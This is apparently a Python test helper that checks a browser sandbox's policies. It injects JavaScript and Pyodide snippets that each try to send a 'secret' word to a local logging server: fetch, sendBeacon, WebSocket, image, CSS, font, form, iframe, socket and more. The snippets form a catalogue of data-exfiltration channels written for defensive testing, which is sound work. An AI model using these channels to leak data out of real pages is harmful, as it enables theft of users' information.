"""The ways out of a page: each tries to send a word to another host, whose log tells what arrived.

They are appended to a page's script and to its worker's, so they run under the policies that these
run under, in any browser. A blocked try often says nothing, and a bare connection without a request
may be opened: judge by the log alone. Left out is what no policy shuts: a navigation (a clicked
link, `window.open`, `location`, a refresh), and WebRTC, which needs a script of the page's own.
"""

import threading
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

# a way's name, and JavaScript; `to` is the address it tries
BOTH = {
    "fetch": "realFetch(to)",
    "no-cors": "realFetch(to, {method: 'POST', mode: 'no-cors', body: 'secret', keepalive: true})",
    "xhr": "await new Promise(end => { const x = new XMLHttpRequest(); x.onloadend = end; x.open('GET', to);"
    " x.send(); })",
    "websocket": "new WebSocket(to.replace('http', 'ws'))",
    "eventsource": "new EventSource(to)",
    "import": "import(to)",
    "cache": "(await caches.open('w')).add(to)",
    "nested": "new Worker(URL.createObjectURL(new Blob([`fetch('${to}', {mode: 'no-cors'})`])))",
    "own host": "realFetch(own + '?secret')",
}
PAGE = {
    "beacon": "navigator.sendBeacon(to, 'secret')",
    "img": "put('img', {src: to})",
    "script": "put('script', {src: to})",
    "css": "put('link', {rel: 'stylesheet', href: to})",
    "prefetch": "put('link', {rel: 'prefetch', href: to})",
    "preload": "put('link', {rel: 'preload', as: 'fetch', href: to})",
    "modulepreload": "put('link', {rel: 'modulepreload', href: to})",
    "icon": "put('link', {rel: 'icon', href: to})",
    "iframe": "put('iframe', {src: to})",
    "object": "put('object', {data: to})",
    "video": "put('video', {src: to, preload: 'auto'})",
    "css url": "put('div', {style: `background: url(${to})`, textContent: 'x'})",
    "font": "put('style', {textContent: `@font-face { font-family: W; src: url(${to}) }`});"
    " put('p', {style: 'font-family: W', textContent: 'x'})",
    "svg image": "put('div', {innerHTML: `<svg><image href='${to}' width='9' height='9'/></svg>`})",
    "form": "put('iframe', {name: 'w'}); const f = put('form', {method: 'POST', action: to, target: 'w'}); f.submit()",
    "markup": "put('div', {innerHTML: `<img src='${to}' onerror='0'>`})",
}
PYTHON = {
    "pyfetch": "from pyodide.http import pyfetch\nawait pyfetch('{to}')",
    "open_url": "from pyodide.http import open_url\nopen_url('{to}')",
    "js xhr": "import js\nx = js.XMLHttpRequest.new()\nx.open('GET', '{to}', False)\nx.send()",
    "js websocket": "import js\njs.WebSocket.new('{to}'.replace('http', 'ws'))",
    "js eventsource": "import js\njs.EventSource.new('{to}')",
    "urllib": "import urllib.request\nurllib.request.urlopen('{to}', timeout=1)",
    "socket": "import socket\n"
    "s = socket.create_connection(('127.0.0.1', {port}), 1)\ns.send(b'GET /python-socket HTTP/1.1')",
}
LATEST = 2_000  # milliseconds that one way may take

HEAD = """
const realFetch = self.fetch.bind(self), own = "{own}", ways = [];
const put = (tag, more) => document.body.appendChild(Object.assign(document.createElement(tag), more));
const late = () => new Promise(done => setTimeout(done, {latest}));
const all = () => Promise.all([...ways.map(act => Promise.race([act().catch(() => 0), late()])), late()]);
"""


def _ways(ways, who, to):
    return "".join(
        f"ways.push(async () => {{ const to = {to + who + '-' + name.replace(' ', '-')!r}; {act}; }});\n"
        for name, act in ways.items()
    )


def of_page(own, to):
    """JavaScript to append to a page's script: `window.tryWays()` tries each of the page's."""
    head = HEAD.replace("{own}", own).replace("{latest}", str(LATEST))
    return (
        head + _ways(BOTH | PAGE, "page", to) + "window.tryWays = all;\n"
        "window.tried = 0; new BroadcastChannel('ways').onmessage = () => { window.tried = 1; };\n"
    )


def of_worker(own, to):
    """JavaScript to append to worker.js: it tries each when Python runs; then `tried` is 1."""
    port = to.split(":")[2].strip("/")
    codes = {
        name: text.replace("{to}", f"{to}python-{name.replace(' ', '-')}").replace("{port}", port)
        for name, text in PYTHON.items()
    }
    run = "".join(f"ways.push(() => python.runPythonAsync({text!r}));\n" for text in codes.values())
    return (
        HEAD.replace("{own}", own).replace("{latest}", str(LATEST))
        + _ways(BOTH, "worker", to)
        + run
        + "const ready = setInterval(async () => { if (!door) return; clearInterval(ready); await all(); "
        "new BroadcastChannel('ways').postMessage(1); }, 50);\n"
    )


class Log(BaseHTTPRequestHandler):
    """Answers everybody, and notes who asked for what."""

    def do_GET(self):
        self.server.arrived.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    do_POST = do_OPTIONS = do_HEAD = do_GET

    def log_message(self, *words):
        pass


@contextmanager
def another_host():
    """A server on a port of its own, which is another host to a browser; `arrived`: its log."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), Log)
    server.arrived, server.address = [], f"http://127.0.0.1:{server.server_port}/"
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()
